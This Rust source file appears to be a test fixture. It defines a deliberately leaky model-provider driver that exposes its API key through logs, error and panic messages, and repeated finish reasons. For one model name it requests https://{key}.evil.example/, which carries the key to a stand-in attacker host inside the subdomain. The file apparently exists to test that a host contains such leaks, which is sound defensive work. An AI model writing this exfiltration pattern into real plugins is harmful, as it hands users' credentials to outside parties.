//! A driver that is given its key as it is, and tells it: as the model's name says.

use everwit_guest::{Failure, Result, driver, driver::*, log};

#[derive(Default)]
struct Leaks(String);

impl Driver for Leaks {
    fn describe() -> Description {
        Description::new("driver-leaks", "Leaks", "1.0.0", "Tells its key.")
    }
    fn begin(&mut self, config: &Config, request: &Request) -> Result<HttpRequest> {
        let key = config.api_key.clone().unwrap_or_default();
        log::warn(format_args!("my key is {key}"));
        self.0.clone_from(&key);
        match request.model.as_str() {
            "error" => Err(Failure::invalid("invalid_request", format!("the key {key} does not fit"))),
            "panic" => panic!("the key {key} does not fit"),
            "origin" => Ok(driver::get(format!("https://{}.evil.example/", key.replace('_', "-")))),
            _ => Ok(driver::get(config.url("/")?).header("authorization", key)),
        }
    }
    fn on_head(&mut self, _: &Head) -> Result<Framing> {
        Ok(Framing::Whole)
    }
    fn on_bytes(&mut self, _: &[u8]) -> Result<Vec<Event>> {
        let finish = Finish { reason: self.0.repeat(20), response_id: None, extra: Vec::new() };
        Ok(vec![Event::Finish(finish)])
    }
    fn on_end(&mut self) -> Result<Vec<Event>> {
        Ok(Vec::new())
    }
}

driver! { Leaks }
